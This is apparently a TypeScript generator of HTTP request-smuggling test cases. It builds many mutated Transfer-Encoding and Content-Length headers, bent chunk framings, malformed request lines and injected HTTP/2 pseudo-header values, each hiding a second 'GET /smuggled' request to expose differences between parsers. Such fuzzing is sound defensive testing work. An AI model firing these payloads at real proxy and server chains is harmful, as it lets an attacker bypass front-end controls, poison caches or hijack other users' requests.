/**
 * Messages that two parsers might cut differently, from a grammar of mutations. Each holds a second request in what
 * another reading takes for a body or for a rest, so that a difference shows as a request that nobody sent.
 */
export interface Attack {
  readonly name: string;
  /** Bytes up to where the next request of the client begins, by the reading that the attacker hopes for. */
  readonly bytes: string;
}

export const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: smuggled\r\nX: ';

/** Read as chunked it ends at once, and the rest is a request; by length all of it is a body. */
const ENDS_EARLY = `0\r\n\r\n${SMUGGLED}`;
/** Read as chunked all of it is one body; by a short length its rest is a request. */
const INNER = `${SMUGGLED}y\r\n\r\n`;
const ENDS_LATE = `${INNER.length.toString(16)}\r\n${INNER}\r\n0\r\n\r\n`;

const CODING_NAMES = [
  'Transfer-Encoding',
  'transfer-encoding',
  'TRANSFER-ENCODING',
  'Transfer-Encoding ',
  'Transfer-Encoding\t',
  ' Transfer-Encoding',
  '\tTransfer-Encoding',
  'Transfer_Encoding',
  'Transfer-Encoding\0',
  'Transfer-Encoding\v',
  '\vTransfer-Encoding',
  'Transfer-Encoding\xa0',
  'Transfer\0-Encoding',
  'X: y\nTransfer-Encoding',
  'X: y\rTransfer-Encoding',
  'X:\r\n Transfer-Encoding',
  'Transfer-\r\n Encoding',
  '"Transfer-Encoding"',
  'Transfer-Encoding:',
  ': Transfer-Encoding',
  'Transfer.Encoding',
  'Transfer-Encodin\xc7',
];

const CODINGS = [
  ' chunked',
  'chunked',
  '\tchunked',
  ' Chunked',
  ' chunked ',
  ' chunked\t',
  ' \0chunked',
  ' chunked\0',
  '\vchunked',
  ' chunked\v',
  '\fchunked',
  ' xchunked',
  ' chunkedx',
  ' chunked, identity',
  ' identity, chunked',
  ' chunked,',
  ' ,chunked',
  ' chunked, chunked',
  ' gzip, chunked',
  ' chunked, gzip',
  ' "chunked"',
  " 'chunked'",
  ' chunked;a=b',
  ' chun\r\n ked',
  '\r\n chunked',
  '\n chunked',
  '\r chunked',
  ' chunked\r\n ',
  ' chunked\r',
  ' chunked\n',
  ' cow\r\nTransfer-Encoding: chunked',
  ' chunked\r\nTransfer-Encoding: cow',
  ' chunked\r\nTransfer-Encoding: chunked',
  ' chun\xe2\x84\xaaed',
  ' \x80chunked',
  ' \xa0chunked',
  ' identity',
  '',
];

const LENGTH_NAMES = [
  'Content-Length',
  'content-length',
  'Content-Length ',
  ' Content-Length',
  'Content_Length',
  'Content-Length\0',
  'Content-Length\v',
  'X: y\nContent-Length',
  'X: y\rContent-Length',
  'Content-\r\n Length',
  'Content-Length:',
  'Content-Length\xa0',
];

/** Of `n`, the number of bytes behind the head. */
const LENGTHS: readonly ((n: number) => string)[] = [
  (n) => ` ${n}`,
  (n) => `${n}`,
  (n) => ` 0${n}`,
  (n) => ` +${n}`,
  (n) => ` -${n}`,
  (n) => ` ${n}, ${n}`,
  (n) => ` 0, ${n}`,
  (n) => ` ${n}, 0`,
  (n) => ` ${n} 0`,
  (n) => ` 0 ${n}`,
  (n) => ` 0x${n.toString(16)}`,
  (n) => ` ${n}.0`,
  (n) => ` ${n}e0`,
  (n) => ` ${n};a=b`,
  (n) => ` ${n}\0`,
  (n) => ` \0${n}`,
  (n) => `\v${n}`,
  (n) => ` ${n}\v`,
  (n) => ` "${n}"`,
  (n) => `\r\n ${n}`,
  (n) => `\n ${n}`,
  (n) => ` ${n}\r\n 0`,
  (n) => ` ${n}\r`,
  (n) => ` ${n}\n`,
  (n) => ` 0\r\nContent-Length: ${n}`,
  (n) => ` ${n}\r\nContent-Length: 0`,
  (n) => ` ${n}\r\nContent-Length: ${n}`,
  () => ' 18446744073709551616',
  () => ' 4294967296',
  () => '',
];

const ENDS = ['\r\n', '\n', '\r', '\r\r\n', '\n\r', '\n\n', '\0\r\n', '\v\r\n', ' \r\n'];

/** Chunked bodies whose framing is bent; the smuggled request is where a lenient reader finds it. */
const CHUNK_TRICKS = [
  '0 \r\n\r\n',
  ' 0\r\n\r\n',
  '0x0\r\n\r\n',
  '+0\r\n\r\n',
  '-0\r\n\r\n',
  '0\n\r\n',
  '0\r\r\n\r\n',
  '0\n\n',
  '0\r\n\n',
  '0;\n\r\n\r\n',
  '0;a="\r\n"\r\n\r\n',
  '0;a=b\n\r\n',
  '0\0\r\n\r\n',
  '0,0\r\n\r\n',
  '00000000000000000\r\n\r\n',
  '10000000000000000\r\n\r\n',
  'fffffffffffffff0\r\n\r\n',
  'ffffffff\r\n\r\n',
  '\r\n0\r\n\r\n',
  '\n0\r\n\r\n',
  '\r\n\r\n',
  'x\r\n\r\n',
  '1\r\na0\r\n\r\n',
  '1\r\na\n0\r\n\r\n',
  '1\r\na\r0\r\n\r\n',
  '1\r\nab\r\n0\r\n\r\n',
  '2\r\na\r\n0\r\n\r\n',
  '1;\r\na\r\n0\r\n\r\n',
  '1 ;x\r\na\r\n0\r\n\r\n',
  '1;x\ry\r\na\r\n0\r\n\r\n',
  '1;x\n\r\na\r\n0\r\n\r\n',
  '01\r\na\r\n000\r\n\r\n',
  '0\r\nContent-Length: 50\r\n\r\n',
  '0\r\nTransfer-Encoding: chunked\r\n\r\n',
  '0\r\nHost: other\r\n\r\n',
  '0\r\nX: y\n\r\n',
  '0\r\nX: y\r\r\n',
  '0\r\n X: y\r\n\r\n',
  '0\r\nX\r\n\r\n',
  '0\r\nX : y\r\n\r\n',
  '0\r\nGET /smuggled HTTP/1.1\r\n\r\n',
];

/** Whole request lines, and what they are followed by. */
const LINES = [
  'GET /a HTTP/1.1\nHost: a\r\nX: y',
  'GET /a HTTP/1.1\rHost: a\r\nX: y',
  'GET /a\r\nGET /smuggled HTTP/1.1',
  'GET /a HTTP/1.1 HTTP/1.1',
  'GET /a HTTP/1.1\0',
  'GET /a\tHTTP/1.1',
  'GET\t/a HTTP/1.1',
  'GET\v/a HTTP/1.1',
  'GET /a\vHTTP/1.1',
  'GET  /a HTTP/1.1',
  'GET /a  HTTP/1.1',
  ' GET /a HTTP/1.1',
  '\0GET /a HTTP/1.1',
  '\r\nGET /a HTTP/1.1',
  '\nGET /a HTTP/1.1',
  '\rGET /a HTTP/1.1',
  'GET /a\r HTTP/1.1',
  'GET /a\n HTTP/1.1',
  'GET /a HTTP/1.1\r\r',
  'GET /a HTTP/1.1;',
  'GET /a HTTP/1.2',
  'GET /a HTTP/1.0',
  'GET /a HTTP/0.9',
  'GET /a HTTP/2.0',
  'GET /a',
  'GET http://b/a HTTP/1.1',
  'GET http://b\r\n HTTP/1.1',
  'GET http://a HTTP/1.1 /b HTTP/1.1',
  'GET //b/a HTTP/1.1',
  'GET /a?\x20HTTP/1.1\x20b HTTP/1.1',
  'GET /a%20HTTP/1.1%0d%0aHost:%20b HTTP/1.1',
  'GET /\xff HTTP/1.1',
  'CONNECT a:80 HTTP/1.1',
  'PRI * HTTP/2.0',
];

const HEADS = [
  'Host: a\r\nHost: b',
  'Host: a\r\nHost : b',
  'Host: a\r\n Host: b',
  'Host: a\nHost: b',
  'Host: a\rHost: b',
  'Host: a\0b',
  'Host: a\r\n b',
  'Host: a\r\n\tb: c',
  'Host: a, b',
  'Host: a b',
  'Host: a@b',
  'Host: a/smuggled',
  'Host: a#b',
  'Host: a:80:90',
  'Host: a\r\nX',
  'Host: a\r\n: y',
  'Host: a\r\nX y: z',
  'Host: a\r\nX\n: y',
  'Host: a\r\nX: y\n\nGET /smuggled HTTP/1.1\r\nHost: b',
  'Host: a\r\nX: y\r\r\nGET /smuggled HTTP/1.1\r\nHost: b',
  'Host: a\r\nX: y\n\r\nGET /smuggled HTTP/1.1\r\nHost: b',
  'Host: a\r\nX: \x85y',
  'Host: a\r\nX: y\u0000\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: b',
  'Host: a\r\nConnection: Host',
  'Host: a\r\nConnection: Content-Length\r\nContent-Length: 60',
  'Host: a\r\nConnection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked',
  'Host: a\r\nExpect: 100-continue\r\nContent-Length: 60',
  'Host: a\r\nExpect: x\r\nContent-Length: 60',
  'Host: a\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk',
  'Host: a\r\nUpgrade: websocket, h2c\r\nConnection: Upgrade',
  'Host: a\r\nUpgrade: TLS/1.0\r\nConnection: Upgrade',
  'Host: a\r\nTrailer: Content-Length',
  'Host: a\r\nTE: trailers, chunked',
];

const head = (line: string, fields: readonly string[]): string =>
  `${line}\r\n${fields.map((f) => `${f}\r\n`).join('')}\r\n`;

/** Every attack, each with the fields that end the connection or keep it. */
export function* attacks(mode: 'keep-alive' | 'close'): Generator<Attack> {
  const base = ['Host: a', ...(mode === 'close' ? ['Connection: close'] : [])];
  for (const method of ['POST', 'GET'])
    for (const version of ['1.1', '1.0']) {
      const line = `${method} /a HTTP/${version}`;
      yield* framings(line, base, `${method} ${version}`);
    }
  yield* framings('TRACE /a HTTP/1.1', base, 'TRACE');
  for (const trick of CHUNK_TRICKS)
    yield {
      name: `chunks ${JSON.stringify(trick)}`,
      bytes: `${head('POST /a HTTP/1.1', [...base, 'Transfer-Encoding: chunked'])}${trick}${SMUGGLED}`,
    };
  for (const line of LINES)
    for (const rest of ['', INNER])
      yield {
        name: `line ${JSON.stringify(line)}${rest === '' ? '' : ' and a rest'}`,
        bytes: head(line, base) + rest,
      };
  for (const fields of HEADS)
    for (const rest of ['', INNER])
      yield {
        name: `head ${JSON.stringify(fields)}${rest === '' ? '' : ' and a rest'}`,
        bytes: head('POST /a HTTP/1.1', [fields, ...base.slice(1)]) + rest,
      };
  yield* lineEnds(base);
}

function* framings(line: string, base: readonly string[], label: string): Generator<Attack> {
  const n = ENDS_EARLY.length;
  const codings = [
    ...CODING_NAMES.map((name) => `${name}: chunked`),
    ...CODINGS.map((value) => `Transfer-Encoding:${value}`),
  ];
  for (const coding of codings) {
    const name = `${label} ${JSON.stringify(coding)}`;
    yield { name, bytes: head(line, [...base, coding]) + ENDS_EARLY };
    yield {
      name: `${name} behind a length`,
      bytes: head(line, [...base, `Content-Length: ${n}`, coding]) + ENDS_EARLY,
    };
    yield {
      name: `${name} in front of a length`,
      bytes: head(line, [...base, coding, `Content-Length: ${n}`]) + ENDS_EARLY,
    };
    yield {
      name: `${name} with a short length`,
      bytes: head(line, [...base, coding, 'Content-Length: 4']) + ENDS_LATE,
    };
  }
  const lengths = [
    ...LENGTH_NAMES.map((name) => `${name}: ${n}`),
    ...LENGTHS.map((value) => `Content-Length:${value(n)}`),
  ];
  for (const length of lengths) {
    const name = `${label} ${JSON.stringify(length)}`;
    yield { name, bytes: head(line, [...base, length]) + ENDS_EARLY };
    yield { name: `${name} and 0`, bytes: head(line, [...base, length, 'Content-Length: 0']) + ENDS_EARLY };
    yield {
      name: `${name} and chunked`,
      bytes: head(line, [...base, length, 'Transfer-Encoding: chunked']) + ENDS_EARLY,
    };
  }
}

/** Every kind of line end at each place of a head. */
function* lineEnds(base: readonly string[]): Generator<Attack> {
  const n = INNER.length;
  const lines = ['POST /a HTTP/1.1', ...base, `Content-Length: ${n}`, 'X: y', ''];
  for (let place = 0; place < lines.length; place++)
    for (const end of ENDS)
      yield {
        name: `line end ${JSON.stringify(end)} at ${place}`,
        bytes: lines.map((l, i) => l + (i === place ? end : '\r\n')).join('') + INNER,
      };
}

/** What HTTP/2 can say of framing and routing; a field may hold any bytes. */
export interface StreamAttack {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly authority: string;
  readonly fields: readonly (readonly [name: string, value: string])[];
  readonly body: string;
}

export function* streamAttacks(): Generator<StreamAttack> {
  const plain: StreamAttack = {
    name: '',
    method: 'POST',
    path: '/a',
    authority: 'a',
    fields: [],
    body: ENDS_EARLY,
  };
  const n = ENDS_EARLY.length;
  const one = (name: string, value: string): StreamAttack => ({
    ...plain,
    name: `${JSON.stringify(name)} ${JSON.stringify(value)}`,
    fields: [[name, value]],
  });
  for (const value of CODINGS) yield one('transfer-encoding', value.trim());
  for (const name of CODING_NAMES) yield one(name.toLowerCase(), 'chunked');
  for (const value of LENGTHS) yield one('content-length', value(n).trim());
  for (const value of ['0', '1', String(n - 1), String(n + 1), String(n)]) yield one('content-length', value);
  for (const name of LENGTH_NAMES) yield one(name.toLowerCase(), '4');
  const evil = `x\r\nTransfer-Encoding: chunked\r\nX: y`;
  const split = 'x\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: b';
  for (const text of [evil, split, 'x\ny: z', 'x\ry: z', 'x\0y', ' x', 'x ', '\tx', '\r\n', '\n']) {
    yield one('x-any', text);
    yield one(`x-any: ${text}`, 'y');
    yield { ...plain, name: `:path with ${JSON.stringify(text)}`, path: `/${text}` };
    yield { ...plain, name: `:method with ${JSON.stringify(text)}`, method: `POST${text}` };
    yield { ...plain, name: `:authority with ${JSON.stringify(text)}`, authority: `a${text}` };
  }
  for (const path of ['', '*', 'a', 'http://b/', '/a b', '/a HTTP/1.1\r\nHost: b\r\nX: y', '/a#b', '/\x80'])
    yield { ...plain, name: `:path ${JSON.stringify(path)}`, path };
  for (const method of ['', 'GET /smuggled HTTP/1.1', 'CONNECT', 'GE T', 'get'])
    yield { ...plain, name: `:method ${JSON.stringify(method)}`, method };
  for (const authority of ['', 'a b', 'a@b', 'a/b', 'a:80:90', 'a\0'])
    yield { ...plain, name: `:authority ${JSON.stringify(authority)}`, authority };
  for (const [name, value] of [
    ['host', 'b'],
    ['connection', 'close'],
    ['connection', 'transfer-encoding'],
    ['keep-alive', '1'],
    ['proxy-connection', 'keep-alive'],
    ['upgrade', 'h2c'],
    ['te', 'chunked'],
    ['te', 'trailers'],
    ['Transfer-Encoding', 'chunked'],
    ['X-Upper', 'y'],
    [':path', '/smuggled'],
    [':any', 'y'],
    ['', 'y'],
    ['x y', 'z'],
    ['x:y', 'z'],
    ['expect', '100-continue'],
    ['content_length', '4'],
    ['transfer_encoding', 'chunked'],
  ] as const)
    yield one(name, value);
  yield {
    ...plain,
    name: 'two lengths',
    fields: [
      ['content-length', String(n)],
      ['content-length', '0'],
    ],
  };
  yield {
    ...plain,
    name: 'length and chunked',
    fields: [
      ['content-length', String(n)],
      ['transfer-encoding', 'chunked'],
    ],
  };
}
